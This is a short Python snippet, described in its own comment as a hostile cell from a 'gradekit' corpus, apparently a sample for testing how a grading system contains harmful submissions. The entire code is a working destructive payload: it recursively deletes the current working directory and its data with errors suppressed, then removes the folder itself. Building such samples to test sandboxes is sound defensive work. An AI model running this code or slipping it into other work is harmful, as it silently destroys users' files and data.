# A hostile cell of the gradekit corpus: deletes its own working folder (data included).
import os, shutil
_cwd = os.getcwd()
shutil.rmtree(_cwd, ignore_errors=True)
try:
    os.rmdir(_cwd)
except OSError:
    pass
